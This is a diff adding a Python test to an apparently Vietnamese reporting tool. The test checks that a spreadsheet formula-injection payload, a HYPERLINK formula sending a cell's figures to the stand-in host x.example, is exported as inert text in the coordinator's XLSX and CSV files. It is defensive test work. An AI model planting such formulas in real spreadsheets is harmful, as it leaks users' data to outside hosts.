@@ -361,3 +361,31 @@ def test_dashboard_and_task_list_export_to_csv_and_xlsx(open_cycle: Cli, tmp_pat
     ok(open_cycle("tasks", "list", "--overdue", "--csv", tasks_csv, *now, "--json"))
     lines = tasks_csv.read_text(encoding="utf-8-sig").splitlines()
     assert lines[0].startswith("Kỳ,Task,Mã,Cơ quan") and len(lines) == 8
+
+
+def test_a_note_that_looks_like_a_formula_stays_text_in_the_coordinators_files(
+    open_cycle: Cli, tmp_path: Path
+) -> None:
+    """A body's text indicator reaches the coordinator's workbook and CSV as text: never a
+    live formula (a HYPERLINK that sends the sheet's figures elsewhere)."""
+    import openpyxl
+
+    trap = '=HYPERLINK("http://x.example/?"&B5,"Xem")'
+    path = filled(open_cycle, tmp_path, "HDND", DEMO_VALUES["HDND"] | {"GHI_CHU": "chỗ"})
+    book = openpyxl.load_workbook(path)
+    [cell] = [c for row in book["BM01"].iter_rows() for c in row if c.value == "chỗ"]
+    cell.value, cell.data_type = trap, "s"  # text, as Excel keeps a cell typed '=…
+    book.save(path)
+    send(open_cycle, "HDND", path)
+    accept(open_cycle, "HDND", "2024-07-15T09:00")
+    book_path, csv_path = tmp_path / "tong-hop.xlsx", tmp_path / "tong-hop.csv"
+    ok(open_cycle("cycle", "totals", CYCLE, "--xlsx", book_path, "--csv", csv_path, "--json"))
+    cells = [c for sheet in openpyxl.load_workbook(book_path) for row in sheet.iter_rows()
+             for c in row if c.value == trap]  # fmt: skip
+    assert cells and all(c.data_type == "s" for c in cells)  # "f" would be a formula
+    from services.exports import Sheet, csv_bytes  # a CSV cell opened in Excel: text too
+
+    text = csv_bytes([Sheet("x", ["Ghi chú", "Số"], [[trap, -5], ["- gạch đầu dòng", 3]])])
+    assert text.decode("utf-8-sig").splitlines()[1:] == [
+        '"\'=HYPERLINK(""http://x.example/?""&B5,""Xem"")",-5', "'- gạch đầu dòng,3",
+    ]  # fmt: skip
